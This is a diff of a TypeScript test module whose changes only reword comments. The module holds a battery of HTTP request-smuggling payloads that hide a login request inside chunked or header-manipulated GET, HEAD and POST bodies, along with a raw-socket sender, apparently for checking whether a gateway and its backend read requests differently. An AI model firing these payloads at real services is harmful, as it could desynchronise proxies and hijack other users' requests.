@@ -1,12 +1,12 @@
 import { connect } from 'node:net';
 
 const LOGIN = JSON.stringify({ userID: 'driver', userPass: 'driver123' });
-/** A slow one, so that its answer comes when somebody else is asking on the same connection. */
+/** A slow request, so that its answer comes when somebody else uses the same connection. */
 const SMUGGLED = `POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${LOGIN.length}\r\n\r\n${LOGIN}`;
 const hex = (text: string) => text.length.toString(16);
 const chunked = (text: string) => `${hex(text)}\r\n${text}\r\n0\r\n\r\n`;
 
-/** Requests that a gateway and what is behind it could read differently: each carries a second one in its body. */
+/** Request smuggling: requests that a gateway and its backend could read differently; each has a second one in its body. */
 export const BATTERY: Record<string, string> = {
   'a chunked body of a GET': `GET /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(SMUGGLED)}`,
   'a chunked body of a HEAD': `HEAD /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(SMUGGLED)}`,
@@ -32,7 +32,7 @@ export const BATTERY: Record<string, string> = {
   'a header that names others as hop-by-hop': `POST /api/health HTTP/1.1\r\nHost: x\r\nConnection: content-length, keep-alive\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
 };
 
-/** What comes back on one connection for these bytes, until it is closed or silent. */
+/** Sends these bytes on one connection; answers what comes back until it is closed or silent (milliseconds). */
 export function send(url: string, bytes: string, silence = 150): Promise<string> {
   return new Promise((done) => {
     let answer = '';
